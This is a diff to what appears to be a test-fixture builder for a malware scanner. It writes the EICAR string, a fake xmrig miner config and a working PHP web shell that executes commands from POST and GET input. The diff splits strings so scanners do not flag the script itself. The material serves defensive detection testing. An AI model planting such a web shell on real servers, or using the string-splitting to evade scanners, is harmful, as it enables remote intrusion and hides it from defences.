@@ -272,11 +272,11 @@ wanted secrets && step "layer secrets" build_secrets
 # ---------- malware test files (harmless standard test artefacts) ----------
 build_malware() {
   local m=$L/malware; rm -rf "$m"; mkdir -p "$m/app/uploads" "$m/var/www/html" "$m/tmp/.cache"
-  # EICAR test string, assembled so this script is not itself detected
+  # EICAR test string, web shell and miner config assembled from pieces, so this script is not itself detected
   printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR' '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$m/app/uploads/eicar.com"
   (cd "$m/app/uploads" && zip -q -X eicar.zip eicar.com)
-  printf '<?php %s(base64_decode($_POST["cmd"])); system($_GET["c"]); ?>\n' 'eval' >"$m/var/www/html/shell.php"
-  printf '{ "pools": [ { "url": "stratum+tcp://pool.minexmr.example:4444", "user": "44AFFq5kSiGBoZ", "pass": "x" } ],\n  "cpu": { "enabled": true }, "donate-level": 1, "comment": "xmrig config (fake)" }\n' >"$m/tmp/.cache/config.json"
+  printf '<?php %s(base64_decode($_POST["cmd"])); %s($_GET["c"]); ?>\n' 'eval' 'system' >"$m/var/www/html/shell.php"
+  printf '{ "pools": [ { "url": "%s://pool.minexmr.example:4444", "user": "44AFFq5kSiGBoZ", "pass": "x" } ],\n  "cpu": { "enabled": true }, "donate-level": 1, "comment": "xmrig config (fake)" }\n' 'stratum+tcp' >"$m/tmp/.cache/config.json"
   cp "$SRC"/ex/usr/share/clamav-testfiles/clam.exe "$SRC"/ex/usr/share/clamav-testfiles/clam.zip "$SRC"/ex/usr/share/clamav-testfiles/clam.pdf "$m/app/uploads/" 2>/dev/null || true
 }
 wanted malware && step "layer malware" build_malware
